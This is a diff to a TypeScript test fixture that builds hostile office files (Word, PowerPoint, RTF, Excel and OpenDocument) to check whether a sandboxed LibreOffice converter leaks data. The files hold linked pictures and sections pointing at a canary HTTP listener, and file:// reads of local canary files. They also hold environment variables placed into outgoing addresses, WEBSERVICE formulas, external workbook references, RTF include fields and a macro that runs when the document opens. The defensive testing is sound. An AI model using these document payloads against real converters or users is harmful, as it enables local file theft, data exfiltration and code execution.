@@ -1,5 +1,15 @@
 import { zip } from './archive.ts';
 import { docx, openDocument, paragraph } from './documents.ts';
+import {
+  copies,
+  expanded,
+  reference,
+  sheet,
+  webservice,
+  withFunction,
+  withMacro,
+  workbook,
+} from './hostile-sheets.ts';
 
 /** Where a hostile document would like to look. */
 export interface Canaries {
@@ -13,12 +23,24 @@ export interface Canaries {
   made: string;
 }
 
+/** What LibreOffice does for a document when nothing holds it back. */
+export interface Reach {
+  /** Paths it asks the listener for. */
+  calls?: string[];
+  /** The canary file's text, or that of the environment, stands on a page. */
+  text?: true;
+  /** The canary picture is seen on a page. */
+  picture?: true;
+  made?: true;
+}
+
 export interface Hostile {
   name: string;
   extension: string;
   content: Buffer;
   /** LibreOffice does it whatever its switches say: only the sandbox stops it. */
   onlyContained?: boolean;
+  reaches: Reach;
 }
 
 const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
@@ -95,67 +117,12 @@ function slideWithPictures(...urls: string[]): Buffer {
   ]);
 }
 
-/** An address that LibreOffice fills in with a variable of its environment before it calls it. */
-const expanded = (http: string) => `vnd.sun.star.expand:${encodeURIComponent(`${http}/`)}$CANARY`;
-
 const frame = (inside: string) =>
   `<text:p><draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="8cm">${inside}</draw:frame></text:p>`;
 const linkedImage = (url: string) =>
   frame(`<draw:image xlink:href="${url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`);
 const section = (url: string) =>
   `<text:section text:name="s"><text:section-source xlink:href="${url}" xlink:type="simple"/><text:p>old</text:p></text:section>`;
-const cell = (formula: string) =>
-  `<table:table-cell table:formula="${formula}" office:value-type="string"><text:p>cached</text:p></table:table-cell>`;
-const sheet = (cells: string) =>
-  `<table:table table:name="a"><table:table-row>${cells}</table:table-row></table:table>`;
-
-function workbook(...formulas: string[]): Buffer {
-  const types = 'application/vnd.openxmlformats-officedocument.spreadsheetml.';
-  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
-  const relations = (type: string, target: string) =>
-    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/${type}" Target="${target}"/></Relationships>`;
-  return zip([
-    {
-      name: '[Content_Types].xml',
-      content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}worksheet+xml"/></Types>`,
-    },
-    { name: '_rels/.rels', content: relations('officeDocument', 'xl/workbook.xml') },
-    { name: 'xl/_rels/workbook.xml.rels', content: relations('worksheet', 'worksheets/sheet1.xml') },
-    {
-      name: 'xl/workbook.xml',
-      content: `<workbook xmlns="${main}" xmlns:r="${REL}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-    },
-    {
-      name: 'xl/worksheets/sheet1.xml',
-      content: `<worksheet xmlns="${main}"><sheetData>${formulas.map((formula, index) => `<row r="${index + 1}"><c r="A${index + 1}" t="str"><f>${formula}</f></c><c r="B${index + 1}" t="inlineStr"><is><t>there</t></is></c></row>`).join('')}</sheetData></worksheet>`,
-    },
-  ]);
-}
-
-/** A text whose macro, run when it is opened, would leave a file. */
-function withMacro(made: string): Buffer {
-  const library = (element: string) =>
-    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:${element} PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">`;
-  const files = {
-    'Basic/script-lc.xml': `${library('libraries')}<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
-    'Basic/Standard/script-lb.xml': `${library('library')}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
-    'Basic/Standard/Module1.xml': `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n Open "${made}" For Output As #1\n Print #1, "made"\n Close #1\nEnd Sub</script:module>`,
-  };
-  const content = `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>harmless</text:p></office:text></office:body></office:document-content>`;
-  const entry = (path: string, type = 'text/xml') =>
-    `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${type}"/>`;
-  const mime = 'application/vnd.oasis.opendocument.text';
-  return zip([
-    { name: 'mimetype', content: mime, stored: true },
-    { name: 'content.xml', content },
-    ...Object.entries(files).map(([name, text]) => ({ name, content: text })),
-    {
-      name: 'META-INF/manifest.xml',
-      content: `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">${entry('/', mime)}${['content.xml', ...Object.keys(files)].map((path) => entry(path)).join('')}</manifest:manifest>`,
-    },
-  ]);
-}
-
 const svg = (url: string) =>
   Buffer.from(
     `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="${url}"/></svg>`,
@@ -164,19 +131,35 @@ const svg = (url: string) =>
 const drawing = (url: string) =>
   frame(`<draw:image><office:binary-data>${svg(url)}</office:binary-data></draw:image>`);
 
-/** Documents that try to look around, to call somebody, or to leave something: many ways in each. */
+/** A value of the variable `CANARY` that can be a part of an address. */
+export const ENVIRONMENT = 'canary-of-the-environment';
+
+/**
+ * Documents that try to look around, to call somebody, or to leave something: many ways in each. `reaches` is
+ * what a LibreOffice 7.4 without any protection does of it. Not in it, so that nothing is proven about them,
+ * because that one does not do it either: parts of other Word texts, and templates; pictures over http and
+ * INCLUDETEXT in RTF; pictures over http in an SVG; variables in the addresses of pictures and sections; macros
+ * when a text is opened unseen, as a converter does.
+ */
 export function hostiles({ http, text, picture: image, made }: Canaries): Hostile[] {
-  const of = (name: string, extension: string, content: Buffer): Hostile => ({ name, extension, content });
-  const odt = (name: string, ...bodies: string[]) => of(name, 'odt', openDocument('text', bodies.join('')));
+  const of = (name: string, extension: string, reaches: Reach, content: Buffer): Hostile => ({
+    name,
+    extension,
+    content,
+    reaches,
+  });
+  const odt = (name: string, reaches: Reach, ...bodies: string[]) =>
+    of(name, 'odt', reaches, openDocument('text', bodies.join('')));
   const file = (path: string) => `file://${path}`;
-  const object = `<draw:object-ole xlink:href="${http}/e" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
+  const object = `<draw:object-ole xlink:href="${http}/object" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
   return [
     of(
       'a Word text that links to pictures and texts, and has a template elsewhere',
       'docx',
+      { calls: ['/word.png'], picture: true },
       linkingText(
         [
-          { type: 'image', url: `${http}/a.png` },
+          { type: 'image', url: `${http}/word.png` },
           { type: 'image', url: file(image) },
           { type: 'aFChunk', url: `${http}/a.docx` },
           { type: 'aFChunk', url: file(text) },
@@ -186,42 +169,78 @@ export function hostiles({ http, text, picture: image, made }: Canaries): Hostil
         `${http}/a.dotm`,
       ),
     ),
-    of('a slide with linked pictures', 'pptx', slideWithPictures(`${http}/a.png`, file(image))),
+    of(
+      'a slide with linked pictures',
+      'pptx',
+      { calls: ['/slide.png'], picture: true },
+      slideWithPictures(`${http}/slide.png`, file(image)),
+    ),
     odt(
       'an OpenDocument text with links over http',
-      linkedImage(`${http}/b.png`),
-      section(`${http}/c.odt`),
-      drawing(`${http}/d.png`),
+      { calls: ['/text.png', '/section.odt', '/object'] },
+      linkedImage(`${http}/text.png`),
+      section(`${http}/section.odt`),
+      drawing(`${http}/drawing.png`),
       frame(object),
     ),
-    odt('an OpenDocument text with links to this machine', linkedImage(file(image)), section(file(text))),
-    odt('addresses that hold the environment', linkedImage(expanded(http)), section(expanded(http))),
+    odt(
+      'an OpenDocument text with links to this machine',
+      { picture: true, text: true },
+      linkedImage(file(image)),
+      section(file(text)),
+    ),
+    odt(
+      'a text with the environment in its addresses',
+      {},
+      linkedImage(expanded(`${http}/picture`)),
+      section(expanded(`${http}/section`)),
+    ),
     {
-      ...odt('a drawing that contains a picture from this machine', drawing(file(image))),
+      ...odt('a drawing that contains a picture from this machine', { picture: true }, drawing(file(image))),
+      onlyContained: true,
+    },
+    {
+      ...of(
+        'RTF fields that include pictures and texts, and a template elsewhere',
+        'rtf',
+        { picture: true },
+        Buffer.from(
+          `{\\rtf1{\\*\\template ${http}/i.dot} start {\\field{\\*\\fldinst { INCLUDEPICTURE "${image}" \\\\d }}{\\fldrslt {}}}{\\field{\\*\\fldinst { INCLUDEPICTURE "${http}/f.png" \\\\d }}{\\fldrslt {}}}{\\field{\\*\\fldinst { INCLUDETEXT "${text}" }}{\\fldrslt {}}}}`,
+        ),
+      ),
       onlyContained: true,
     },
     of(
-      'RTF fields that include a picture and a text, and a template elsewhere',
-      'rtf',
-      Buffer.from(
-        `{\\rtf1{\\*\\template ${http}/i.dot} start {\\field{\\*\\fldinst INCLUDEPICTURE "${http}/f.png" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt }}}`,
-      ),
-    ),
-    of(
-      'an Excel WEBSERVICE and a link to another workbook',
+      'an Excel WEBSERVICE',
       'xlsx',
-      workbook(`_xlfn.WEBSERVICE("${http}/g")`, `'${file(text)}'#$a.A1`),
+      { calls: ['/excel-webservice'] },
+      workbook([`_xlfn.WEBSERVICE("${http}/excel-webservice")`]),
     ),
     of(
-      'an OpenDocument WEBSERVICE and a cell from a file of this machine',
-      'ods',
-      openDocument(
-        'spreadsheet',
-        sheet(
-          cell(`of:=COM.MICROSOFT.WEBSERVICE(&quot;${http}/h&quot;)`) + cell(`of:=['${file(text)}'#$a.A1]`),
-        ),
-      ),
+      'an Excel workbook that refers to others',
+      'xlsx',
+      { calls: ['/other.xlsx'] },
+      workbook(['[1]a!A1', '[2]a!A1'], [`${http}/other.xlsx`, file(text)]),
     ),
-    of('a macro that runs when the text is opened', 'odt', withMacro(made)),
+    of(
+      'an OpenDocument WEBSERVICE',
+      'ods',
+      { calls: ['/webservice'] },
+      sheet([webservice(`${http}/webservice`)]),
+    ),
+    of(
+      'cells of other spreadsheets, and one with the environment in its address',
+      'ods',
+      { calls: ['/other.ods', `/cell/${ENVIRONMENT}`] },
+      sheet([reference(`${http}/other.ods`), reference(expanded(`${http}/cell`)), reference(file(text))]),
+    ),
+    of(
+      'sheets and ranges that are copies of files elsewhere',
+      'ods',
+      { calls: ['/sheet.ods', '/range.txt', `/sheet/${ENVIRONMENT}`], text: true },
+      copies([`${http}/sheet.ods`, expanded(`${http}/sheet`)], [`${http}/range.txt`, file(text)]),
+    ),
+    of('a macro that runs when the text is opened', 'odt', {}, withMacro(made)),
+    of('a macro that is a function of a cell', 'ods', { made: true, text: true }, withFunction(made)),
   ];
 }
